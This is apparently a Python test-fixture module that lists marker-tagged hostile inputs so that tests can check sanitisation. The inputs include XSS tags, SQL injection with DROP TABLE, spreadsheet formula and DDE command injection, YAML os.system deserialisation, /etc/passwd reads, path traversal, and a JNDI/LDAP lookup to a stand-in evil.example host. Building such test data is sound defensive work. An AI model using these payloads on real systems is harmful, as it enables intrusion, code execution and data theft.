"""Text that wants to be more than text: markup, formulas, code, paths, queries, letters that hide or turn others."""

from __future__ import annotations

MARKED = "zq7"
"""Stands in every hostile text, so that a test can find what became of it."""

HTML = (
    f"<img src=x onerror=alert('{MARKED}')>",
    f"<script>{MARKED}()</script>",
    f'"><svg onload="{MARKED}()">',
    f"</p></div><iframe src='https://evil.example/{MARKED}'>",
    f"<!-- {MARKED}",
    f"&lt;b&gt;{MARKED}&lt;/b&gt;",
)
MARKDOWN = (
    f"[{MARKED}](https://evil.example/)",
    f"[{MARKED}](javascript:alert(1))",
    f"![{MARKED}](https://evil.example/pixel.png)",
    f"<https://evil.example/{MARKED}>",
    f"https://evil.example/{MARKED}",
    f"www.evil.example/{MARKED}",
    f"mailto:{MARKED}@evil.example",
    f"$\\href{{https://evil.example}}{{{MARKED}}}$",
    f"$${MARKED}$$",
    f"# {MARKED}",
    f"1. {MARKED}",
    f"> {MARKED}",
    f"| {MARKED} | b |\n|---|---|",
    f"`{MARKED}`",
    f"~~~{MARKED}",
    f":red[{MARKED}] :material/delete: :streamlit:",
    f"**{MARKED}** _{MARKED}_ ~~{MARKED}~~ ==x==",
    f"[^1]: {MARKED}",
)
FORMULAS = (
    f'=HYPERLINK("https://evil.example","{MARKED}")',
    f"+{MARKED}!A1",
    f"-2+3+cmd|' /C {MARKED}'!A0",
    f"@SUM({MARKED})",
    f"＝{MARKED}()",
    f"\t={MARKED}()",
    f"\r={MARKED}()",
    f" ={MARKED}()",
    f"\u200b={MARKED}()",
    f"\ufeff＋{MARKED}",
)
TYPST = (
    f'#import "@preview/{MARKED}:1.0.0": *',
    f'#read("/etc/passwd") {MARKED}',
    f'#include "../../{MARKED}.typ"',
    f'#image("/etc/hostname") {MARKED}',
    f"#panic({MARKED})",
    f'"]; #eval("{MARKED}")',
    f"= {MARKED}\n/ a: b",
    f"$ {MARKED} $ @{MARKED} <{MARKED}> \\ #",
)
YAML = (
    f"!!python/object/apply:os.system [{MARKED}]",
    f"*{MARKED}",
    f"&{MARKED} x",
    f"<<: {MARKED}",
    f"a: b # {MARKED}",
    f"- {MARKED}",
    f"{{{MARKED}: ",
)
SQL = (
    f"'; DROP TABLE assessment; -- {MARKED}",
    f'" OR 1=1 -- {MARKED}',
    f"{MARKED}%' UNION SELECT * FROM assessment --",
    f"\\'; {MARKED}",
)
PATHS = (
    f"../../../etc/{MARKED}",
    f"..\\..\\{MARKED}",
    f"/etc/passwd\x00{MARKED}",
    f"C:\\{MARKED}",
    f"file:///etc/{MARKED}",
    f"~{MARKED}/.ssh",
    f"con{MARKED}.pdf/..",
)
CODE = (
    f"{{{{7*7}}}}{MARKED}",
    f"${{jndi:ldap://evil.example/{MARKED}}}",
    f"%s%n%x{MARKED}",
    f"{{0.__class__}}{MARKED}",
)
LETTERS = (
    f"\u202e{MARKED}\u202c",
    f"{MARKED}\x1b[31m\x1b]8;;https://evil.example\x07",
    f"{MARKED}\x00\x01\x7f",
    f"{MARKED}\u2028{MARKED}\u2029\x85",
    f"{MARKED}\u200b\u2060\ufeff",
    f"z\u0300\u0301\u0302\u0303\u0304{MARKED}",
    f"\U0001f468\u200d\U0001f469 {MARKED} \ue000",
    f"\u0661\u0662\u0663 {MARKED} \u00b2\u2460",
)

EVERY = (*HTML, *MARKDOWN, *FORMULAS, *TYPST, *YAML, *SQL, *PATHS, *CODE, *LETTERS)
"""All of them. Some hold a line break or a control character; see `PRINTABLE`."""

PRINTABLE = tuple(text for text in EVERY if text.isprintable())
"""Those of one line that no form or database would refuse for its letters."""
